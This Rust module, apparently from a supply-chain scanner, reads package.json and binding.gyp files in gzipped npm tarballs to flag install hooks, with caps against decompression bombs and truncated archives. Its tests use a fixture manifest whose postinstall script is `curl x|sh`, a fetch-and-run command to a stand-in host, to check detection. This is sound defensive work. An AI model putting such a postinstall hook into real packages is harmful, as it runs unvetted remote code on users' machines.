//! npm package tarballs in a cache: the `package.json` files inside a gzipped tarball, whose
//! install scripts run on `npm install`. Bounded: a hostile blob is read up to
//! [`DECOMPRESSED_LIMIT`] bytes and [`ENTRY_LIMIT`] entries, never further; one that could not
//! be read to its end says so ([`Manifests::unread`]), so it never passes as one without hooks.

use std::io::{self, Read};

use flate2::read::MultiGzDecoder;

use super::{NpmTarball, checks, tar};

/// The most bytes a tarball is decompressed to. Real packages stay below it (the largest
/// common ones, prebuilt native binaries, unpack to about 150 MB); a gzip bomb costs a second
/// or two of reading before it is cut off.
pub const DECOMPRESSED_LIMIT: u64 = 256 << 20;
/// The most entries of a tarball looked at.
pub const ENTRY_LIMIT: usize = 100_000;
/// A `package.json` inside a tarball bigger than this is not read.
const MANIFEST_LIMIT: u64 = 16 << 20;

/// A gzip stream starts with these bytes.
pub fn is_gzip(head: &[u8]) -> bool {
    head.starts_with(&[0x1f, 0x8b])
}

/// What a package tarball declares.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Manifests {
    /// Every `<dir>/package.json` at depth 1, in archive order, with its content. npm unpacks
    /// the tarball stripping the first component, so any of them can become the package's
    /// `package.json`: all are kept.
    pub found: Vec<(Vec<u8>, Vec<u8>)>,
    /// Every `<dir>/binding.gyp` at depth 1: without an `install` or `preinstall` script, npm
    /// runs `node-gyp rebuild` for it, and gyp files run commands of their own.
    pub gyp: Vec<Vec<u8>>,
    /// Why the tarball could not be read to its end, when it could not.
    pub unread: Option<String>,
}

/// Whether a member name is `<dir>/<file>`, which npm's unpacking puts at the package root.
fn is_top(name: &[u8], file: &[u8]) -> bool {
    let parts: Vec<&[u8]> = name
        .split(|b| *b == b'/')
        .filter(|c| !c.is_empty() && *c != b".")
        .collect();
    matches!(parts.as_slice(), [_, f] if *f == file)
}

/// Whether a member name is `<dir>/package.json`, where npm's unpacking puts the package's.
fn is_top_manifest(name: &[u8]) -> bool {
    is_top(name, b"package.json")
}

/// A reader that fails, rather than ends, past its limit: a cut-off tarball reads as what it is.
struct Capped<R> {
    inner: R,
    left: u64,
    limit: u64,
}

impl<R: Read> Read for Capped<R> {
    fn read(&mut self, buf: &mut [u8]) -> io::Result<usize> {
        if self.left == 0 {
            let mut probe = [0u8; 1];
            return match self.inner.read(&mut probe)? {
                0 => Ok(0),
                _ => Err(io::Error::other(format!(
                    "decompresses to more than {} bytes",
                    self.limit
                ))),
            };
        }
        let want = (buf.len() as u64).min(self.left) as usize;
        let n = self.inner.read(&mut buf[..want])?;
        self.left -= n as u64;
        Ok(n)
    }
}

/// Reads the depth-1 `package.json` files of a gzipped tarball (the caller checked
/// [`is_gzip`]). What was found before a read failed is kept, with why it failed.
pub fn manifests(blob: impl Read) -> Manifests {
    manifests_within(blob, DECOMPRESSED_LIMIT)
}

/// [`manifests`], decompressing at most `limit` bytes.
fn manifests_within(blob: impl Read, limit: u64) -> Manifests {
    let mut out = Manifests::default();
    let reader = Capped {
        inner: MultiGzDecoder::new(blob),
        left: limit,
        limit,
    };
    let mut seen = 0usize;
    let read = tar::entries(io::BufReader::new(reader), |h, data| {
        seen += 1;
        if seen > ENTRY_LIMIT {
            return Err(io::Error::other(format!("more than {ENTRY_LIMIT} entries")));
        }
        if h.kind == tar::Kind::File && is_top(&h.path, b"binding.gyp") {
            out.gyp.push(h.path.clone());
        }
        if h.kind != tar::Kind::File || !is_top_manifest(&h.path) {
            return Ok(());
        }
        if h.size > MANIFEST_LIMIT {
            return Err(io::Error::other(format!(
                "`package.json` larger than {MANIFEST_LIMIT} bytes"
            )));
        }
        let mut content = Vec::new();
        data.read_to_end(&mut content)?;
        out.found.push((h.path.clone(), content));
        Ok(())
    });
    if let Err(e) = read {
        out.unread = Some(format!("package tarball not read to its end: {e}"));
    }
    out
}

/// What makes a tarball a startup-hook carrier: the install scripts each of its `package.json`
/// files declares, an `install` each `binding.gyp` implies, and whether it was read to its end.
/// `None` when it was, and nothing declares or implies any.
pub fn hooks(found: Manifests) -> Option<NpmTarball> {
    let declared: Vec<(String, Vec<String>)> = found
        .found
        .iter()
        .map(|(member, json)| {
            (
                String::from_utf8_lossy(member).into_owned(),
                checks::npm_lifecycle_scripts(json),
            )
        })
        .collect();
    // npm adds `install: node-gyp rebuild` when the package's `package.json` has neither
    // `install` nor `preinstall`. Which of several manifests wins is up to the unpacking, so
    // a `binding.gyp` counts unless every one of them has one of the two.
    let gyp_implied = declared.is_empty()
        || declared
            .iter()
            .any(|(_, scripts)| !scripts.iter().any(|s| s == "install" || s == "preinstall"));
    let mut manifests: Vec<(String, Vec<String>)> = declared
        .into_iter()
        .filter(|(_, scripts)| !scripts.is_empty())
        .collect();
    if gyp_implied {
        manifests.extend(found.gyp.iter().map(|member| {
            (
                String::from_utf8_lossy(member).into_owned(),
                vec!["install".to_owned()],
            )
        }));
    }
    (!manifests.is_empty() || found.unread.is_some()).then_some(NpmTarball {
        manifests,
        unread: found.unread,
    })
}

#[cfg(test)]
pub(crate) mod tests {
    use std::io::Write as _;

    use flate2::Compression;
    use flate2::write::GzEncoder;

    use super::*;

    fn header(name: &[u8], size: u64) -> [u8; 512] {
        let mut h = [0u8; 512];
        h[..name.len()].copy_from_slice(name);
        h[100..107].copy_from_slice(b"0000644");
        h[124..135].copy_from_slice(format!("{size:011o}").as_bytes());
        h[156] = b'0';
        h[257..263].copy_from_slice(b"ustar\0");
        h[148..156].copy_from_slice(b"        ");
        let sum: u64 = h.iter().map(|b| *b as u64).sum();
        h[148..155].copy_from_slice(format!("{sum:06o}\0").as_bytes());
        h
    }

    /// A gzipped tarball of regular files, as `npm pack` writes one.
    pub(crate) fn tgz(files: &[(&str, &[u8])]) -> Vec<u8> {
        let mut gz = GzEncoder::new(Vec::new(), Compression::default());
        for (name, data) in files {
            gz.write_all(&header(name.as_bytes(), data.len() as u64))
                .unwrap();
            gz.write_all(data).unwrap();
            gz.write_all(&vec![0; (512 - data.len() % 512) % 512])
                .unwrap();
        }
        gz.write_all(&[0; 1024]).unwrap();
        gz.finish().unwrap()
    }

    const HOOKED: &[u8] = br#"{"name":"left-pad","scripts":{"postinstall":"curl x|sh"}}"#;

    /// The package's `package.json` is found in a real .tgz, and one nested deeper is not
    /// taken for it.
    #[test]
    fn the_package_manifest_is_read_from_a_tarball() {
        let blob = tgz(&[
            ("package/index.js", b"module.exports = 1\n"),
            ("package/package.json", HOOKED),
            ("package/node_modules/x/package.json", b"{}"),
        ]);
        assert!(is_gzip(&blob));
        let m = manifests(&blob[..]);
        assert_eq!(
            m.found,
            vec![(b"package/package.json".to_vec(), HOOKED.to_vec())]
        );
        assert_eq!(m.unread, None);
    }

    /// A second top-level `package.json` after a harmless first is still read: unpacking
    /// lets the later one win.
    #[test]
    fn a_later_top_level_manifest_is_not_hidden_by_an_earlier_one() {
        let blob = tgz(&[
            ("package/package.json", br#"{"name":"p"}"#),
            ("./other/package.json", HOOKED),
        ]);
        let m = manifests(&blob[..]);
        assert_eq!(m.found.len(), 2);
        assert_eq!(
            m.found[1],
            (b"other/package.json".to_vec(), HOOKED.to_vec())
        );
    }

    /// A truncated or corrupt gzip stream does not panic: it is said to be unread.
    #[test]
    fn a_corrupt_gzip_is_reported_unread() {
        let blob = tgz(&[
            ("package/index.js", &[7u8; 4000]),
            ("package/package.json", HOOKED),
        ]);
        let cut = manifests(&blob[..blob.len() / 2]);
        assert!(cut.unread.is_some(), "{cut:?}");
        let mut garbled = blob.clone();
        for b in &mut garbled[12..40] {
            *b ^= 0x5a;
        }
        let bad = manifests(&garbled[..]);
        assert!(bad.found.is_empty());
        assert!(bad.unread.is_some());
        assert!(manifests(&[0x1f, 0x8b][..]).unread.is_some());
    }

    /// A decompression bomb is read no further than the cap: a manifest placed after it is
    /// never reached, and the blob is said to be unread (a small cap stands in for the real
    /// one, which the same code applies).
    #[test]
    fn a_decompression_bomb_is_capped() {
        let limit = 8 << 20;
        let zeros = vec![0u8; limit as usize + (1 << 20)];
        let blob = tgz(&[
            ("package/big.bin", &zeros),
            ("package/package.json", HOOKED),
        ]);
        assert!(blob.len() < (1 << 20), "{}", blob.len());
        let m = manifests_within(&blob[..], limit);
        assert!(m.found.is_empty());
        let why = m.unread.unwrap();
        assert!(why.contains("more than 8388608 bytes"), "{why}");
        // Under the cap, the same tarball is read whole.
        let whole = manifests_within(&blob[..], 2 * limit);
        assert_eq!(whole.unread, None);
        assert_eq!(whole.found.len(), 1);
    }

    /// A zero block between entries does not hide the `package.json` after it: npm's
    /// unpacker skips a lone zero block and unpacks what follows.
    #[test]
    fn a_manifest_after_a_lone_zero_block_is_read() {
        let mut gz = GzEncoder::new(Vec::new(), Compression::default());
        gz.write_all(&header(b"package/index.js", 0)).unwrap();
        gz.write_all(&[0; 512]).unwrap();
        gz.write_all(&header(b"package/package.json", HOOKED.len() as u64))
            .unwrap();
        gz.write_all(HOOKED).unwrap();
        gz.write_all(&vec![0; 512 - HOOKED.len() % 512]).unwrap();
        gz.write_all(&[0; 1024]).unwrap();
        let m = manifests(&gz.finish().unwrap()[..]);
        assert_eq!(m.unread, None);
        assert_eq!(
            m.found,
            vec![(b"package/package.json".to_vec(), HOOKED.to_vec())]
        );
    }

    /// Only manifests that declare install scripts are kept as hooks; a tarball without any is
    /// no carrier unless it could not be read to its end.
    #[test]
    fn hooks_name_the_scripts_of_each_manifest() {
        let hooked = hooks(manifests(
            &tgz(&[
                ("package/package.json", br#"{"name":"p"}"#),
                ("other/package.json", HOOKED),
            ])[..],
        ))
        .unwrap();
        assert_eq!(
            hooked.manifests,
            vec![(
                "other/package.json".to_owned(),
                vec!["postinstall".to_owned()]
            )]
        );
        assert_eq!(hooked.unread, None);
        assert_eq!(
            hooks(manifests(&tgz(&[("package/package.json", b"{}")])[..])),
            None
        );
        // A `binding.gyp` implies `install` (node-gyp rebuild) unless the package declares
        // `install` or `preinstall` itself.
        let gyp = hooks(manifests(
            &tgz(&[
                ("package/package.json", br#"{"name":"native"}"#),
                ("package/binding.gyp", b"{'targets':[]}"),
            ])[..],
        ))
        .unwrap();
        assert_eq!(
            gyp.manifests,
            vec![("package/binding.gyp".to_owned(), vec!["install".to_owned()])]
        );
        let own = hooks(manifests(
            &tgz(&[
                (
                    "package/package.json",
                    br#"{"scripts":{"install":"node build.js"}}"#,
                ),
                ("package/binding.gyp", b"{}"),
            ])[..],
        ))
        .unwrap();
        assert_eq!(
            own.manifests,
            vec![(
                "package/package.json".to_owned(),
                vec!["install".to_owned()]
            )]
        );
        let cut = hooks(manifests(&[0x1f, 0x8b][..])).unwrap();
        assert!(cut.manifests.is_empty());
        assert!(cut.unread.is_some());
    }

    /// Only `<dir>/package.json` counts as the package's manifest.
    #[test]
    fn top_level_manifests_are_named_by_depth() {
        assert!(is_top_manifest(b"package/package.json"));
        assert!(is_top_manifest(b"./left-pad/package.json"));
        assert!(!is_top_manifest(b"package.json"));
        assert!(!is_top_manifest(b"package/lib/package.json"));
        assert!(!is_top_manifest(b"package/package.json.bak"));
    }
}
